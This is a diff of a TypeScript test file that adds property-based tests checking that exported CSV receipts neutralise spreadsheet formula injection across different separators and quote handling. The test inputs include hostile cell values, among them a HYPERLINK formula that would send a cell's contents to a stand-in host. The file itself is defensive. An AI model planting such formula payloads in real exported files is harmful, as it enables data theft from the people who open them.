@@ -1,6 +1,7 @@
 import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import fc from 'fast-check';
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { failure } from '../../../shared/errors.ts';
 import { TITLE } from '../testing/transfer-parts.ts';
@@ -102,11 +103,82 @@ test('no cell of a CSV is a formula, whatever is before the sign', async () => {
   await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
   const text = await readFile(join(folder, 'r.csv'), 'utf8');
   for (const sign of signs) {
-    const cell = /[\r\n]/.test(sign) ? `"'${sign}"` : `'${sign}`;
+    const cell = /[\t\r\n]/.test(sign) ? `"'${sign.replace('=', "'=")}"` : `'${sign}`;
     expect(text).toContain(`upload,b,${cell},${cell},waiting,1,`);
   }
   expect(text).toContain(`upload,b,"'=1,""","'=1,""",waiting,1,`);
   expect(text).toContain("upload,b,a=1,a=1,done,1,'-1+1,,,'=1,");
+});
+
+/** The cells of a CSV as spreadsheets find them that separate so; `quotes`: those that a cell begins with hold it together. */
+function cellsOf(csv: string, separators: string, quotes: boolean): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let isQuoted = false;
+  let isAtStart = true;
+  for (let at = 0; at < csv.length; at += 1) {
+    const sign = csv.charAt(at);
+    if (isQuoted) {
+      if (sign !== '"') cell += sign;
+      else if (csv.charAt(at + 1) === '"') cell += csv.charAt(++at);
+      else isQuoted = false;
+    } else if (sign === '"' && quotes && isAtStart) {
+      isQuoted = true;
+      isAtStart = false;
+    } else if (separators.includes(sign) || sign === '\n' || sign === '\r') {
+      cells.push(cell);
+      cell = '';
+      isAtStart = true;
+    } else {
+      cell += sign;
+      isAtStart = false;
+    }
+  }
+  return [...cells, cell];
+}
+
+const hostileText = fc
+  .array(fc.constantFrom('=', '+', '-', '@', '\uff1d', ';', '\t', '\r', '\n', ',', '"', "'", ' ', '\u00a0', 'a', '1'), {
+    minLength: 1,
+    maxLength: 12,
+  })
+  .map((signs) => signs.join(''));
+
+test('nor is one where a spreadsheet separates by something else, or does not see the quotes', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(hostileText, { minLength: 1, maxLength: 20 }), async (names) => {
+      const hostile: JournalRecord[] = [
+        { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
+        { r: 'items', from: 0, names, sizes: names.map(() => 1), modified: [], origins: names },
+      ];
+      await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
+      const csv = await readFile(join(folder, 'r.csv'), 'utf8');
+      for (const [separators, quotes] of [
+        [',', true],
+        [';', true],
+        ['\t', true],
+        [';', false],
+        ['\t', false],
+        [',;\t', true],
+      ] as const) {
+        const formula = quotes ? /^\s*[=+\-@\uff1d]/ : /^[\s"]*[=+\-@\uff1d]/;
+        expect(cellsOf(csv, separators, quotes).filter((cell) => formula.test(cell))).toEqual([]);
+      }
+    }),
+    { numRuns: 150 },
+  );
+});
+
+test('a cell is what it was but for apostrophes before signs', async () => {
+  const names = ['x;=HYPERLINK("//h/"&A1);y', 'a\n=1', 'a;"=1', 'a; b=1', 'a,=1', 'a-b; c-d'];
+  const hostile: JournalRecord[] = [
+    { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
+    { r: 'items', from: 0, names, sizes: names.map(() => 1), modified: [], origins: names.map(() => '') },
+  ];
+  await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
+  const csv = await readFile(join(folder, 'r.csv'), 'utf8');
+  const keys = cellsOf(csv.replaceAll('\r\n', ','), ',', true).filter((_, at) => at > 13 && at % 13 === 2);
+  expect(keys).toEqual([`x;'=HYPERLINK("//h/"&A1);y`, "a\n'=1", `a;"'=1`, 'a; b=1', 'a,=1', 'a-b; c-d']);
 });
 
 test('a copy is told under the name that it has where it went', async () => {
